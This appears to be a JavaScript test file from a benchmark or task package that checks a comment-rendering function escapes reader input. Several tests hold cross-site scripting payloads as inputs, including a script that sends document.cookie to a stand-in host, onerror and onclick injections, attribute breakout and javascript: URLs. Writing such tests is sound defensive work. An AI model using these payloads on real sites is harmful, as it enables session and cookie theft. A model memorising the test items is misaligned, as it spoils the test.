'use strict';
const { check, checkEq, checkIncludes, checkExcludes } = require('secgap_check');
const { renderComment } = require('solution');

const OPEN = '<article class="comment"><header>';

// The markup the page template itself contributes, so that any extra tag,
// attribute or quote in the output can only have come from the reader.
function shape(html) {
  check(typeof html === 'string', 'renderComment must return a string, got ' + typeof html);
  check(html.startsWith(OPEN), 'output must start with ' + OPEN + ': ' + html.slice(0, 120));
  check(html.endsWith('</p></article>'), 'output must end with </p></article>: ' + html.slice(-120));
  return html;
}

// Every tag in the output, by name (lower case).
function tags(html) {
  return (html.match(/<\/?[a-zA-Z][^\s/>]*/g) || []).map((t) => t.replace(/[</]/g, '').toLowerCase());
}

function onlyTemplateTags(html, allowed) {
  for (const t of tags(html)) {
    check(allowed.includes(t), `reader input produced a <${t}> tag: ${html}`);
  }
}

module.exports = {
  plain_comment() {
    const html = renderComment({ author: 'Mira', text: 'Great post, thanks!' });
    checkEq(html, OPEN + 'Mira</header><p>Great post, thanks!</p></article>', 'rendered comment');
  },

  line_breaks_become_br() {
    const html = renderComment({ author: 'Jon', text: 'First line\nSecond line\nThird' });
    checkEq(
      html,
      OPEN + 'Jon</header><p>First line<br>Second line<br>Third</p></article>',
      'comment with line breaks',
    );
  },

  links_author_to_website() {
    const html = renderComment({ author: 'Ana', text: 'Nice', website: 'https://ana.example.org/blog' });
    checkEq(
      html,
      OPEN + '<a href="https://ana.example.org/blog" rel="nofollow">Ana</a></header><p>Nice</p></article>',
      'comment with a website',
    );
    const http = renderComment({ author: 'Bo', text: 'Hi', website: 'http://bo.example.net/' });
    checkIncludes(http, '<a href="http://bo.example.net/" rel="nofollow">Bo</a>', 'http website');
  },

  no_link_without_website() {
    for (const website of [undefined, '']) {
      const html = renderComment({ author: 'Lee', text: 'ok', website });
      checkEq(html, OPEN + 'Lee</header><p>ok</p></article>', `comment with website ${JSON.stringify(website)}`);
    }
    const ftp = renderComment({ author: 'Kai', text: 'ok', website: 'ftp://files.example.com/' });
    checkEq(ftp, OPEN + 'Kai</header><p>ok</p></article>', 'comment whose website is not a web page');
  },

  script_tag_in_text() {
    const html = shape(
      renderComment({
        author: 'Eve',
        text: 'hello <script>fetch("//evil.example/?c="+document.cookie)</script>\n<img src=x onerror=alert(1)>',
      }),
    );
    onlyTemplateTags(html, ['article', 'header', 'p', 'br']);
    checkExcludes(html.toLowerCase(), '<script', 'rendered comment');
    checkExcludes(html.toLowerCase(), '<img', 'rendered comment');
  },

  markup_in_author_name() {
    const html = shape(
      renderComment({ author: '</header><div onclick="steal()">Eve</div><header>', text: 'hi' }),
    );
    onlyTemplateTags(html, ['article', 'header', 'p']);
    checkEq(tags(html).filter((t) => t === 'header').length, 2, 'number of <header> tags');
  },

  attribute_breakout_in_website() {
    const html = shape(
      renderComment({
        author: 'Eve',
        text: 'see my site',
        website: 'https://eve.example/" onmouseover="alert(document.cookie)" x="',
      }),
    );
    onlyTemplateTags(html, ['article', 'header', 'p', 'a']);
    // The only double quotes allowed are the two around the href value.
    const m = html.match(/<a\s([^>]*)>/);
    if (m) {
      const attrs = m[1];
      checkEq((attrs.match(/"/g) || []).length, 4, 'double quotes in the link tag (href and rel only)');
    }
    checkExcludes(html, '" onmouseover=', 'rendered comment');
  },

  javascript_url_in_website() {
    for (const website of [
      'javascript:alert(document.cookie)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'javascript:alert(1)//https://ana.example.org/',
    ]) {
      const html = shape(renderComment({ author: 'Eve', text: 'click my name', website }));
      const m = html.match(/href\s*=\s*"([^"]*)"/i);
      if (m) {
        const href = m[1].replace(/&#x?[0-9a-f]+;?/gi, '').replace(/\s/g, '').toLowerCase();
        check(href.startsWith('http:') || href.startsWith('https:'), 'the link runs script: ' + m[0]);
      }
    }
  },
};
